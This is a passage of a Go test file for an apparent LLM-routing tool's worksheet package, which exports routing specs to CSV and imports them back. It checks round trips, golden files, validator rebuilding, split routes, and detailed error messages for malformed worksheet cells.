package worksheet

import (
	"bytes"
	"context"
	"encoding/csv"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/clearbar/clearbar/estimate"
	"github.com/clearbar/clearbar/spec"
)

var update = flag.Bool("update", false, "rewrite golden files")

// estimateOpts are small enough for tests and fixed, so estimated columns are reproducible.
var estimateOpts = estimate.Options{Samples: 20000, Seed: 1}

func load(t *testing.T, file string) *spec.Spec {
	t.Helper()
	s, err := spec.Load(file, spec.Options{})
	if err != nil {
		t.Fatalf("load %s: %v", file, err)
	}
	return s
}

func export(t *testing.T, s *spec.Spec) []byte {
	t.Helper()
	est, err := estimate.Run(context.Background(), s, estimateOpts)
	if err != nil {
		t.Fatalf("estimate %s: %v", s.Name, err)
	}
	var b bytes.Buffer
	if err := Export(&b, s, est); err != nil {
		t.Fatalf("export %s: %v", s.Name, err)
	}
	return b.Bytes()
}

// reimport imports a sheet and loads the result as if saved as file.
func reimport(t *testing.T, sheet []byte, file string) ([]byte, *spec.Spec) {
	t.Helper()
	y, err := Import(bytes.NewReader(sheet), ImportOptions{File: "sheet.csv", Dir: filepath.Dir(file)})
	if err != nil {
		t.Fatalf("import: %v", err)
	}
	s, err := spec.Parse(y, file, spec.Options{})
	if err != nil {
		t.Fatalf("imported spec does not load: %v\n%s", err, y)
	}
	return y, s
}

func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil {
		t.Fatalf("exported CSV does not read back: %v", err)
	}
	return recs
}

// TestRoundTrip is the package's main guarantee: Export → Import → spec.Parse → estimate →
// Export gives the same bytes, estimated columns included, for specs in the supported class
// (those Gaps finds nothing in).
func TestRoundTrip(t *testing.T) {
	type roundTrip struct {
		name string
		file string
		// saveAs is where the imported spec is parsed as saved: next to the original, so that
		// json_schema file paths resolve.
		saveAs string
		why    string
	}
	tests := []roundTrip{
		{"quickstart", "../examples/quickstart.yaml", "../examples/imported.yaml",
			"the example spec: a validated cascade with a category fallback (cascade failover), static routes, ttft+tokens/s latency, availability below the default, a schema file"},
		{"fixture", "testdata/fixture.yaml", "testdata/imported.yaml",
			"every column: name≠id models, all latency forms and the default, a category latency override, token distributions, retry_once, on_exhausted: fail, every rebuildable validator kind, an unstated validator strength, a category review date, CSV quoting and a why ending in a line break"},
	}
	// The other examples join when they are in the supported class (they were when this test
	// was written: retries, gemini prices, reasoning tokens and cache hits).
	others, _ := filepath.Glob("../examples/*.yaml")
	for _, f := range others {
		if !strings.HasSuffix(f, "quickstart.yaml") {
			tests = append(tests, roundTrip{filepath.Base(f), f, "../examples/imported.yaml", "an example spec"})
		}
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := load(t, tt.file)
			if gaps := Gaps(s); len(gaps) > 0 {
				if tt.why == "an example spec" {
					t.Skipf("outside the round-trip class: %s", strings.Join(gaps, "; "))
				}
				t.Fatalf("the test spec is outside the round-trip class: %s", strings.Join(gaps, "; "))
			}
			first := export(t, s)
			y, s2 := reimport(t, first, tt.saveAs)
			second := export(t, s2)
			if !bytes.Equal(first, second) {
				t.Errorf("round trip changed the worksheet (%s)\nfirst:\n%s\nsecond:\n%s\nimported spec:\n%s", tt.why, first, second, y)
			}
			if !bytes.HasPrefix(y, []byte("# Imported from the routing worksheet sheet.csv.")) {
				t.Errorf("imported spec does not start with the import header:\n%s", y)
			}
			if bytes.Contains(bytes.ToUpper(y), []byte("TODO")) {
				t.Errorf("imported spec contains the word TODO:\n%s", y)
			}
		})
	}
}

// TestRoundTripWithoutAssumptionColumns imports a sheet with only the twelve playbook columns
// and the first seven extras (route to why). The spec it gives keeps every non-estimated
// column, but its estimate differs: model latencies are rebuilt from the estimated latency
// of static rows, availabilities are the default and a cascade's category fallback is gone.
// That is why the later columns exist.
func TestRoundTripWithoutAssumptionColumns(t *testing.T) {
	dropped := Columns[slices.Index(Columns, colWhy)+1:]
	estimated := []string{colEstPass, colEstLatency, colEstCost}
	first := readCSV(t, export(t, load(t, "../examples/quickstart.yaml")))
	keep := func(recs [][]string, cols []string) [][]string {
		var out [][]string
		for _, rec := range recs {
			var row []string
			for i, h := range recs[0] {
				if !slices.Contains(cols, h) {
					row = append(row, rec[i])
				}
			}
			out = append(out, row)
		}
		return out
	}
	var sheet bytes.Buffer
	w := csv.NewWriter(&sheet)
	if err := w.WriteAll(keep(first, dropped)); err != nil {
		t.Fatal(err)
	}
	y, s2 := reimport(t, sheet.Bytes(), "../examples/imported.yaml")
	second := readCSV(t, export(t, s2))
	ignored := append(slices.Clone(dropped), estimated...)
	a, b := keep(first, ignored), keep(second, ignored)
	if !slices.EqualFunc(a, b, slices.Equal) {
		t.Errorf("non-estimated columns changed:\nbefore %q\nafter  %q\nimported spec:\n%s", a, b, y)
	}
	if !bytes.Contains(y, []byte("placeholder latency: the estimated latency of category draft (row 3)")) {
		t.Errorf("mini's latency should come from draft's estimated latency:\n%s", y)
	}
}

// TestSchemaFileElsewhere imports the quickstart's sheet to be saved where its schema file
// is not: the schema validator becomes a commented placeholder, so the spec still loads.
func TestSchemaFileElsewhere(t *testing.T) {
	sheet := export(t, load(t, "../examples/quickstart.yaml"))
	dir := t.TempDir()
	y, s := reimport(t, sheet, filepath.Join(dir, "imported.yaml"))
	for _, want := range []string{
		"# replace with the validators described: JSON Schema schemas/intent.json\n",
		"# schema file not found relative to where this spec is saved: schemas/intent.json\n      validate: [{json_schema: request}]\n",
	} {
		if !bytes.Contains(y, []byte(want)) {
			t.Errorf("imported spec lacks %q:\n%s", want, y)
		}
	}
	if _, err := estimate.Run(context.Background(), s, estimateOpts); err != nil {
		t.Errorf("imported spec does not estimate: %v", err)
	}
	// The lost schema changes the estimate, so the import says so as it happens.
	var warnings []string
	if _, err := Import(bytes.NewReader(sheet), ImportOptions{File: "sheet.csv", Dir: dir, Warn: func(m string) { warnings = append(warnings, m) }}); err != nil {
		t.Fatal(err)
	}
	if want := "json_schema files not found relative to where this spec is saved, in intent (schemas/intent.json)"; !strings.Contains(strings.Join(warnings, "\n"), want) {
		t.Errorf("warnings %q lack %q", warnings, want)
	}
}

// TestExportGolden pins the worksheet of the fixture spec, and TestImportGolden the spec
// imported from that worksheet. Run go test -update to rewrite them after a deliberate change.
func TestExportGolden(t *testing.T) {
	got := export(t, load(t, "testdata/fixture.yaml"))
	golden(t, "testdata/fixture.csv", got)
	recs := readCSV(t, got)
	if !slices.Equal(recs[0], Columns) {
		t.Errorf("header = %q, want Columns", recs[0])
	}
	for i, rec := range recs {
		if len(rec) != len(Columns) {
			t.Errorf("record %d has %d cells, want %d", i+1, len(rec), len(Columns))
		}
	}
	if !bytes.Contains(got, []byte("\r\n")) {
		t.Error("RFC 4180 lines end in CRLF")
	}
}

func TestImportGolden(t *testing.T) {
	sheet, err := os.ReadFile("testdata/fixture.csv")
	if err != nil {
		t.Fatal(err)
	}
	y, _ := reimport(t, sheet, "testdata/imported.yaml")
	golden(t, "testdata/fixture.imported.yaml", y)
}

func golden(t *testing.T, file string, got []byte) {
	t.Helper()
	if *update {
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs (run go test -update if the change is deliberate)\ngot:\n%s\nwant:\n%s", file, got, want)
	}
}

// TestSeedColumnsOnly imports a worksheet written by hand with only the twelve playbook
// columns, in another order and case, with a byte-order mark, percentages and blank lines.
func TestSeedColumnsOnly(t *testing.T) {
	sheet := "\ufeffTask Category,Primary Model,Fallback Model,TRAFFIC SHARE,Quality Threshold,Average Tokens In,Average Tokens Out," +
		"Validation Rule,Estimated Pass Rate,Estimated Latency,Estimated Per-Request Cost,Last Review Date\r\n" +
		"classify,small=gpt-4o-mini,large=gpt-4o,50%,0.95,350,15,JSON Schema from the request; none of 12 restricted phrases,0.97,600ms / 1.8s,0.00008,2026-10-01\r\n" +
		"summarize,large=gpt-4o,small,30%,90%,2000/8000,300,,0.93,2.5s / 6s,0.008,2026-10-01\r\n" +
		",,,,,,,,,,,\r\n" +
		"escalations,large=gpt-4o,,10%,0.97,3k,500,judge large scores ≥ 0.80,,,,2026-09-01\r\n" +
		"extract,small,large,10%,0.96,\"1,200\",200,judge large scores ≥ 0.80,0.96,,,2026-10-01\r\n"
	y, err := Import(strings.NewReader(sheet), ImportOptions{File: "hand.csv", Name: "hand-written"})
	if err != nil {
		t.Fatalf("import: %v", err)
	}
	// small, summarize's fallback, is the primary model of cascades only: its pass rate there
	// is not small's, so the spec asks for one.
	if _, err := spec.Parse(y, "hand.yaml", spec.Options{}); err == nil || !strings.Contains(err.Error(), `category "summarize" routes to "small" but assume.pass_rate has no value for it`) {
		t.Errorf("loading the spec as imported: %v; want the loader to ask for small's pass rate in summarize", err)
	}
	s, err := spec.Parse(fillMissing(y, "0.8"), "hand.yaml", spec.Options{})
	if err != nil {
		t.Fatalf("imported spec does not load: %v\n%s", err, y)
	}
	est, err := estimate.Run(context.Background(), s, estimateOpts)
	if err != nil {
		t.Fatalf("imported spec does not estimate: %v", err)
	}
	rows, err := Rows(s, est)
	if err != nil {
		t.Fatal(err)
	}

	checks := []struct {
		what, got, want, why string
	}{
		{"name", s.Name, "hand-written", "ImportOptions.Name names the spec"},
		{"classify route", rows[0].Route, "cascade", "a validation rule and a fallback model make a cascade"},
		{"classify validation", rows[0].ValidationRule, "JSON Schema from the request", "the rebuildable part of the rule is kept; restricted phrases cannot be rebuilt"},
		{"summarize route", rows[1].Route, "static", "no validation rule: the fallback model is a provider fallback"},
		{"summarize tokens in", rows[1].TokensIn, "2000/8000", "p50/p95 is read as a distribution"},
		{"summarize share", rows[1].TrafficShare, "0.3", "30% is 0.3"},
		{"summarize bar", rows[1].QualityThreshold, "0.9", "90% is 0.9"},
		{"escalations tokens in", rows[2].TokensIn, "3000", "3k is 3000"},
		{"escalations review", rows[2].LastReview, "2026-09-01", "a row's own review date survives"},
		{"escalations validation", rows[2].ValidationRule, "", "a judge on a static route stays a comment"},
		{"extract route", rows[3].Route, "cascade", "inferred cascade"},
		{"extract validation", rows[3].ValidationRule, "JSON Schema from the request", "a cascade whose rule cannot be rebuilt gets a placeholder validator"},
		{"extract tokens in", rows[3].TokensIn, "1200", "1,200 is 1200"},
		{"classify primary pass", rows[0].PrimaryPassRate, "0.97", "placeholder: the row's estimated pass rate"},
		{"escalations primary pass", rows[2].PrimaryPassRate, "0.93", "no estimated pass rate: large's in summarize, a static row, before the quality threshold"},
		{"classify fallback pass", rows[0].FallbackPassRate, "0.93", "large's pass rate in summarize, a static row"},
		{"summarize fallback pass", rows[1].FallbackPassRate, "0.8", "no static row gives small's: written in by hand"},
	}
	for _, r := range rows {
		if r.EstimatedPassRate == "" || r.EstimatedLatency == "" || r.EstimatedCost == "" {
			t.Errorf("row %s has no estimate: %+v", r.Category, r)
		}
	}
	for _, c := range checks {
		if c.got != c.want {
			t.Errorf("%s = %q, want %q (%s)", c.what, c.got, c.want, c.why)
		}
	}
	for _, want := range []string{
		"# Imported from the routing worksheet hand.csv.",
		"# placeholder: the worksheet gives no pass rate for small in this category; this is its estimated pass rate",
		"# placeholder latency: the estimated latency of category summarize (row 3), where large is the primary model of a static route; measure it\n    latency: {p50: 2.5s, p95: 6s}",
		"# placeholder latency: the estimated latency of category classify (row 2), where small is the first model of a cascade route, so it includes escalations to later models; measure it\n    latency: {p50: 600ms, p95: 1.8s}",
		"# from another category: the worksheet gives no pass rate for large in this category; this is its pass rate in summarize (row 3), that row's estimated pass rate, where it is the primary model of a static route",
		"# missing: no row of the worksheet gives a pass rate for small; write it here, like small: 0.9, with your estimate or a measurement: the spec does not load without it\n",
		"# not rebuilt, add back as validators: none of 12 restricted phrases",
		"# replace with the validators described: judge large scores ≥ 0.80\n      validate: [{json_schema: request}]",
		"# validation rule, not rebuilt as validators (add them to validate: ...): judge large scores ≥ 0.80",
		"# route inferred as a cascade: the row has a validation rule and a fallback model",
		"review: {last: 2026-10-01}",
		"review: {last: 2026-09-01}",
	} {
		if !bytes.Contains(y, []byte(want)) {
			t.Errorf("imported spec lacks %q:\n%s", want, y)
		}
	}
	if bytes.Contains(bytes.ToUpper(y), []byte("TODO")) {
		t.Errorf("imported spec contains the word TODO:\n%s", y)
	}
}

// baseSheet is a valid seed-columns sheet the error cases below break one cell at a time.
const baseSheet = `task category,traffic share,quality threshold,primary model,fallback model,average tokens in,average tokens out,validation rule,estimated pass rate,estimated latency,estimated per-request cost,last review date
intent,0.6,0.95,small=gpt-4o-mini,large=gpt-4o,400,20,JSON Schema from the request,0.97,600ms / 1.8s,0.0001,2026-10-01
draft,0.4,0.9,large=gpt-4o,,1500,250,,0.93,,,2026-10-01
`

func TestImportErrors(t *testing.T) {
	replace := func(old, new string) string {
		if !strings.Contains(baseSheet, old) {
			panic("baseSheet lacks " + old)
		}
		return strings.Replace(baseSheet, old, new, 1)
	}
	withExtra := func(header, intent, draft string) string {
		lines := strings.Split(strings.TrimSpace(baseSheet), "\n")
		return lines[0] + "," + header + "\n" + lines[1] + "," + intent + "\n" + lines[2] + "," + draft + "\n"
	}
	tests := []struct {
		name  string
		sheet string
		opts  ImportOptions
		want  string
		why   string
	}{
		{"base sheet imports", baseSheet, ImportOptions{}, "",
			"the cases below each break one thing of this sheet"},
		{"share as a whole number", replace("intent,0.6,", "intent,60,"), ImportOptions{},
			`sheet.csv row 2, "traffic share": "60" is not a share: write 0.45 or 45%`,
			"the brief's example: a share above 1 is probably a percentage without its sign"},
		{"shares do not sum to 1", replace("intent,0.6,", "intent,0.5,"), ImportOptions{},
			`sheet.csv column "traffic share": the shares sum to 0.9, not 1 (intent 0.5, draft 0.4)`,
			"categories partition the traffic"},
		{"quality threshold empty", replace("intent,0.6,0.95,", "intent,0.6,,"), ImportOptions{},
			`sheet.csv row 2, "quality threshold": empty: write a pass rate, like 0.95 or 95%`,
			"a spec needs a quality bar per category"},
		{"unknown column", withExtra("colour", "red", "blue"), ImportOptions{},
			`sheet.csv row 1, "colour": unknown column; the known columns are "task category"`,
			"unknown columns are named"},
		{"misspelt column", strings.Replace(baseSheet, "traffic share", "trafic share", 1), ImportOptions{},
			`sheet.csv row 1, "trafic share": unknown column (did you mean "traffic share"?)`,
			"a close known column is suggested"},
		{"missing seed column", strings.Replace(baseSheet, ",last review date", "", 1), ImportOptions{},
			`sheet.csv row 1: missing column "last review date"`,
			"the twelve playbook columns are required"},
		{"duplicate column", withExtra("Why,why", "a,b", "c,d"), ImportOptions{},
			`sheet.csv row 1, "why": the column appears twice (columns 13 and 14): keep one`,
			"header comparison is case-insensitive"},
		{"split route twice", withExtra("route", "split split", "static"), ImportOptions{},
			`sheet.csv row 2, "route": "split split": write split once, followed by the route of the split's first arm`,
			"a split row holds one arm's route"},
		{"unknown route", withExtra("route", "cascde", "static"), ImportOptions{},
			`sheet.csv row 2, "route": "cascde" is not a route: write static, cascade, score or cascade retry_once`,
			"route words are checked"},
		{"retry_once without a rule", withExtra("route", "cascade", "static retry_once"), ImportOptions{},
			`sheet.csv row 3, "route": retry_once retries answers that fail validation, but the row has no validation rule`,
			"retry_once needs validators to fail"},
		{"token count with words", replace(",400,20,", ",four hundred,20,"), ImportOptions{},
			`sheet.csv row 2, "average tokens in": "four hundred" is not a token count: write the average input tokens per request, like 400, or p50/p95, like 1500/6000`,
			"tokens are numbers"},
		{"token p95 below p50", replace(",400,20,", ",400/100,20,"), ImportOptions{},
			`sheet.csv row 2, "average tokens in": "400/100" is not a token count`,
			"p95 is at least p50"},
		{"model name with a space", replace("large=gpt-4o,400", "GPT 4o,400"), ImportOptions{},
			`sheet.csv row 2, "fallback model": "GPT 4o" is not a model name: use letters, digits, '.', '_' and '-', or write name=model-id`,
			"model names follow the spec's rules"},
		{"one name, two ids", replace("draft,0.4,0.9,large=gpt-4o,", "draft,0.4,0.9,large=gpt-4.1,"), ImportOptions{},
			`sheet.csv row 3, "primary model": "large=gpt-4.1" gives large the id gpt-4.1, but row 2 ("fallback model") gives it gpt-4o`,
			"a model has one id"},
		{"model id not in the catalogue", replace("small=gpt-4o-mini", "small=gpt-4o-mimi"), ImportOptions{},
			`sheet.csv row 2, "primary model": model id "gpt-4o-mimi" is not in the price catalogue`,
			"prices come from the catalogue; the error suggests close ids"},
		{"static fallback to itself", replace("draft,0.4,0.9,large=gpt-4o,,", "draft,0.4,0.9,large=gpt-4o,large,"), ImportOptions{},
			`sheet.csv row 3, "fallback model": large is the primary model: a model cannot fall back to itself`,
			"the loader would refuse it too, with a YAML line instead of a sheet cell"},
		{"date in another format", replace("0.0001,2026-10-01", "0.0001,01/10/2026"), ImportOptions{},
			`sheet.csv row 2, "last review date": "01/10/2026" is not a date: write YYYY-MM-DD, like 2026-11-01`,
			"dates are ISO"},
		{"estimated latency unreadable", replace("600ms / 1.8s", "fast"), ImportOptions{},
			`sheet.csv row 2, "estimated latency": "fast" is not a latency: write p50 / p95, like 820ms / 2.4s, or a median alone, like 820ms (its p95 is then assumed), or leave it empty`,
			"estimated columns feed placeholders, so they are checked"},
		{"duplicate category", replace("draft,", "intent,"), ImportOptions{},
			`sheet.csv row 3, "task category": category "intent" is already in row 2`,
			"one row per category"},
		{"latency budget without unit", withExtra("latency budget", "2", "8s"), ImportOptions{},
			`sheet.csv row 2, "latency budget": duration "2" has no unit: write 2s or 2ms`,
			"the spec's own duration message"},
		{"detect without false alarm", withExtra("validator detect", "0.8", ""), ImportOptions{},
			`sheet.csv row 2, "validator false alarm": empty while "validator detect" is set`,
			"a validator strength is a pair"},
		{"latency of a model not in the row", withExtra("model latency", "small: 800ms/2s; mini: 1s/2s", ""), ImportOptions{},
			`sheet.csv row 2, "model latency": names "mini", which this row does not name: list the latency of the models in "primary model", "fallback model", "cascade failover", "other pass rates"`,
			"latency cells describe the row's models"},
		{"latency form unreadable", withExtra("model latency", "small: quick", ""), ImportOptions{},
			`sheet.csv row 2, "model latency": small: "quick" is not a latency: write p50/p95 like 800ms/2s`,
			"latency forms are checked"},
		{"two availabilities for one model", withExtra("model availability", "large: 0.99", "large: 0.995"), ImportOptions{},
			`sheet.csv row 3, "model availability": gives large the availability 0.995, but row 2 gives it 0.99`,
			"availability is a model's, not a category's"},
		{"malformed CSV", replace("JSON Schema from the request", `JSON "Schema"`), ImportOptions{},
			`sheet.csv row 2: not valid CSV (line 2, column`,
			"RFC 4180: quotes only around whole cells"},
		{"empty file", "", ImportOptions{},
			`sheet.csv: the worksheet is empty`,
			"nothing to import"},
		{"header only", strings.SplitAfter(baseSheet, "\n")[0], ImportOptions{},
			`sheet.csv: the worksheet has no categories`,
			"nothing to import"},
		{"unknown provider type in the sheet", withExtra("model provider", "small: acme", ""), ImportOptions{},
			`sheet.csv row 2, "model provider": small: "acme" is not a provider type: write one of openai, anthropic`,
			"provider types are the spec's"},
		{"two provider types for one model", withExtra("model provider", "large: openai", "large: gemini"), ImportOptions{},
			`sheet.csv row 3, "model provider": gives large the provider type gemini, but row 2 gives it openai`,
			"a model has one provider"},
		{"retry policy unreadable", withExtra("provider retries", "three times", ""), ImportOptions{},
			`sheet.csv row 2, "provider retries": "three times" is not a retry policy: write attempts N, backoff D`,
			"retries are checked like the spec's"},
		{"failure impact unreadable", withExtra("failure impact", "a lot", ""), ImportOptions{},
			`sheet.csv row 2, "failure impact": "a lot" is not a failure impact: write what a bad answer costs in dollars, like bad answer 0.5`,
			"failure impact drives the risk figures, so it is checked"},
		{"failure impact given twice", withExtra("failure impact", `"bad answer 1, bad answer 2"`, ""), ImportOptions{},
			`sheet.csv row 2, "failure impact": "bad answer 1, bad answer 2" is not a failure impact`,
			"one amount per kind of failure"},
		{"volume unreadable", withExtra("volume", "lots", ""), ImportOptions{},
			`sheet.csv row 2, "volume": "lots" is not a volume: write the spec's requests per month or per day, like 3000000 per month`,
			"the volume drives the monthly figures, so it is checked"},
		{"volume differs between rows", withExtra("volume", "3000000 per month", "40000 per day"), ImportOptions{},
			`sheet.csv row 3, "volume": gives the volume 40000 per day, but row 2 gives 3000000 per month: the volume is the spec's, one for all categories`,
			"a spec has one volume"},
		{"model outside the catalogue, priced", strings.Replace(withExtra("model price", `"small: input 0.1, output 0.4"`, ""), "small=gpt-4o-mini", "small=small-x", 1), ImportOptions{}, "",
			"a model the catalogue does not list imports with the prices of its row"},
		{"model outside the catalogue, half priced", strings.Replace(withExtra("model price", "small: input 0.1", ""), "small=gpt-4o-mini", "small=small-x", 1), ImportOptions{},
			`sheet.csv row 2, "primary model": model id "small-x" is not in the price catalogue (2026-07-24)`,
			"without an output price the loader would refuse the model: the sheet's error says where to give it"},
		{"model price unreadable", withExtra("model price", "small: cheap", ""), ImportOptions{},
			`sheet.csv row 2, "model price": small: "cheap" is not a price; write KEY PRICE pairs separated by commas, in dollars per million tokens, like input 0.4, output 1.6`,
			"prices are checked like the spec's"},
		{"model price not a number", withExtra("model price", `"small: input 0.1, output four"`, ""), ImportOptions{},
			`sheet.csv row 2, "model price": small: output: invalid price "four": not a number (write dollars per million tokens, like 0.15)`,
			"the money parser's own message"},
		{"long-context price without a threshold", withExtra("model price", `"small: input 1, output 2, long context input 3"`, ""), ImportOptions{},
			`sheet.csv row 2, "model price": small: a long-context price needs "long context above N", the input tokens over which it applies`,
			"a tier applies above a number of input tokens"},
		{"price of a model not in the row", withExtra("model price", `"mini: input 1, output 2"`, ""), ImportOptions{},
			`sheet.csv row 2, "model price": names "mini", which this row does not name`,
			"price cells describe the row's models"},
		{"two prices for one model", withExtra("model price", `"large: input 1, output 2"`, `"large: input 1, output 3"`), ImportOptions{},
			`sheet.csv row 3, "model price": gives large the prices "input 1, output 3", but row 2 gives it "input 1, output 2"`,
			"a price is a model's, not a category's"},
		{"unknown provider type", baseSheet, ImportOptions{Provider: "acme"},
			`worksheet: unknown provider type "acme"`,
			"provider types are the spec's"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			opts := tt.opts
			opts.File = "sheet.csv"
			y, err := Import(strings.NewReader(tt.sheet), opts)
			if tt.want == "" {
				if err != nil {
					t.Fatalf("unexpected error: %v", err)
				}
				if _, err := spec.Parse(y, "imported.yaml", spec.Options{}); err != nil {
					t.Fatalf("imported spec does not load: %v\n%s", err, y)
				}
				return
			}
			if err == nil {
				t.Fatalf("no error, want %q (%s); imported:\n%s", tt.want, tt.why, y)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error:\n%v\nwant it to contain:\n%s\n(%s)", err, tt.want, tt.why)
			}
		})
	}
}

// TestImportFileName checks where error messages get the worksheet's name.
func TestImportFileName(t *testing.T) {
	bad := strings.Replace(baseSheet, "intent,0.6,", "intent,60,", 1)
	dir := t.TempDir()
	path := filepath.Join(dir, "team.csv")
	if err := os.WriteFile(path, []byte(bad), 0o644); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tests := []struct {
		name string
		r    io.Reader
		want string
		why  string
	}{
		{"os.File", f, path + " row 2", "an *os.File names itself"},
		{"other reader", strings.NewReader(bad), "worksheet row 2", "a reader without a name"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Import(tt.r, ImportOptions{})
			if err == nil || !strings.HasPrefix(err.Error(), tt.want) {
				t.Errorf("error %v, want it to start with %q (%s)", err, tt.want, tt.why)
			}
		})
	}
}

// TestRebuildValidators checks which validation rules come back as validators: exactly those
// whose summary holds every setting, and each comes back with the same summary.
func TestRebuildValidators(t *testing.T) {
	tests := []struct {
		validator string
		rebuilt   bool
		why       string
	}{
		{"{json_schema: request}", true, "the request's schema"},
		{"{json_schema: schemas/intent.json}", true, "a file path, relative to the spec"},
		{"{json_schema: {inline: {type: object}}}", false, "the inline schema is not in the summary"},
		{"{required_fields: [order.id, \"items[].sku\"]}", true, "field paths contain no commas"},
		{"{regex: {must: ['^a, b$'], must_not: ['x/y']}}", true, "patterns containing the separators still read back"},
		{"{max_length: 200}", true, "shorthand"},
		{"{length: {min_chars: 10, max_chars: 20, min_tokens: 3}}", true, "every bound"},
		{"{length: {max_chars: 20}}", true, "not confused with max_length"},
		{"{restricted_phrases: [refund guaranteed]}", false, "only the count of phrases is in the summary"},
		{"{citations: true}", true, "required citations"},
		{"{citations: {required: false}}", true, "optional citations"},
		{"{tool_calls: required}", true, "mode required"},
		{"{tool_calls: allowed}", true, "mode allowed"},
		{"{tool_calls: none}", true, "mode none"},
		{"{refusal: true}", true, "no settings"},
		{"{judge: {model: strong, rubric: Helpful and correct.}}", false, "the rubric is not in the summary"},
	}
	for _, tt := range tests {
		t.Run(tt.validator, func(t *testing.T) {
			summary := summaryOf(tt.validator)
			if summary == "" {
				t.Fatalf("test validator %s does not decode", tt.validator)
			}
			got := rebuildValidators(summary, nil)
			if rebuilt := len(got.unknown) == 0; rebuilt != tt.rebuilt {
				t.Fatalf("rule %q: rebuilt = %v, want %v (%s)", summary, rebuilt, tt.rebuilt, tt.why)
			}
			if tt.rebuilt && (len(got.validators) != 1 || summaryOf(got.validators[0]) != summary) {
				t.Errorf("rule %q rebuilt as %q", summary, got.validators)
			}
		})
	}
}

// TestSplitRoute exports a split route (its first arm's first model is the primary model)
// and checks that the row imports as that arm's static route, with a warning.
func TestSplitRoute(t *testing.T) {
	const src = `version: 1
name: split
review: {last: 2026-10-01}
volume: {per_month: 1000}
providers: {sim: {type: simulated}}
models:
  a: {provider: sim, model: gpt-4o-mini, latency: {p50: 1s, p95: 2s}}
  b: {provider: sim, model: gpt-4o, latency: {p50: 1s, p95: 2s}}
categories:
  - name: ab
    share: 1
    tokens: {in: 100, out: 10}
    quality_bar: 0.9
    route:
      split:
        - {weight: 0.5, model: a}
        - {weight: 0.5, model: b}
    fallback: [b]
    assume: {pass_rate: {a: 0.9, b: 0.95}}
`
	s, err := spec.Parse([]byte(src), "split.yaml", spec.Options{})
	if err != nil {
		t.Fatal(err)
	}
	rows, err := Rows(s, nil)
	if err != nil {
		t.Fatal(err)
	}
	r := rows[0]
	if r.Route != "split static" || r.PrimaryModel != "a=gpt-4o-mini" || r.FallbackModel != "b=gpt-4o" || r.EstimatedPassRate != "" {
		t.Errorf("split row = %+v", r)
	}
	var b bytes.Buffer
	if err := Export(&b, s, nil); err != nil {
		t.Fatal(err)
	}
	var warnings []string
	y, err := Import(&b, ImportOptions{File: "split.csv", Warn: func(m string) { warnings = append(warnings, m) }})
	if err != nil {
		t.Fatalf("import of a split row: %v", err)
	}
	if w := strings.Join(warnings, "\n"); !strings.Contains(w, `row 2, "route" (category ab): a split route: the worksheet row holds only its first arm, imported as the category's static route; the other arms and the weights are lost`) {
		t.Errorf("import of a split row warns:\n%s", w)
	}
	s2, err := spec.Parse(y, "imported.yaml", spec.Options{})
	if err != nil {
		t.Fatalf("imported spec does not load: %v\n%s", err, y)
	}
	c := s2.Categories[0]
	if c.Route.Kind() != "static" || c.Route.Model.Name != "a" || len(c.Fallback) != 1 || c.Fallback[0].Name != "b" {
		t.Errorf("imported route %+v, fallback %v; want static a, fallback b", c.Route, c.Fallback)
	}
	if !bytes.Contains(y, []byte("# a split route: the worksheet row holds only its first arm")) {
		t.Errorf("the imported spec does not say the split is lost:\n%s", y)
	}
	gaps := strings.Join(Gaps(s), "\n")
	if !strings.Contains(gaps, "category ab: split routes do not fit a worksheet row: the row holds only the first arm (static, weight 0.5 of 2 arms), and import reads it as the category's route, with a warning") {
		t.Errorf("Gaps = %s", gaps)
	}
}

// TestExportChecksEstimate refuses an estimate of another spec, whose rows would not match.
func TestExportChecksEstimate(t *testing.T) {
	quick := load(t, "../examples/quickstart.yaml")
	fixture := load(t, "testdata/fixture.yaml")
	est, err := estimate.Run(context.Background(), fixture, estimateOpts)
	if err != nil {
		t.Fatal(err)
	}
	if err := Export(&bytes.Buffer{}, quick, est); err == nil || !strings.Contains(err.Error(), "pass the estimate of this spec") {
		t.Errorf("export with another spec's estimate: %v", err)
	}
}

// TestImportProvider checks the provider type option and the "model provider" column.
func TestImportProvider(t *testing.T) {
	tests := []struct {
		name      string
		sheet     string
		opts      ImportOptions
		providers string // type of each provider, in order
		small     string // provider type of model small
		yaml      string // in the imported spec
		why       string
	}{
		{"default", baseSheet, ImportOptions{}, "simulated", "simulated", "name: imported",
			"simulated needs no API keys, so an imported sheet estimates anywhere"},
		{"option", baseSheet, ImportOptions{Provider: "openai", Name: "support"}, "openai", "openai", "name: support",
			"ImportOptions.Provider and Name"},
		{"settings needed", baseSheet, ImportOptions{Provider: "azure-openai"}, "azure-openai", "azure-openai",
			"# placeholders: a worksheet holds no provider settings; set base_url and api_version\n    base_url: \"https://replace-me.invalid\"",
			"azure-openai needs settings a worksheet does not hold: placeholders let the spec load"},
		{"column", strings.Replace(strings.Replace(strings.Replace(baseSheet, "last review date\n", "last review date,model provider\n", 1),
			"2026-10-01\n", "2026-10-01,small: gemini; large: openai\n", 1), "2026-10-01\n", "2026-10-01,\n", 1),
			ImportOptions{}, "gemini openai", "gemini", "  gemini: {type: gemini}\n  openai: {type: openai}",
			"the column names each model's provider type; one provider per type"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			y, err := Import(strings.NewReader(tt.sheet), tt.opts)
			if err != nil {
				t.Fatal(err)
			}
			s, err := spec.Parse(y, "imported.yaml", spec.Options{})
			if err != nil {
				t.Fatalf("%v\n%s", err, y)
			}
			var types []string
			for _, p := range s.Providers {
				types = append(types, p.Type)
			}
			if got := strings.Join(types, " "); got != tt.providers {
				t.Errorf("providers %q, want %q (%s)", got, tt.providers, tt.why)
			}
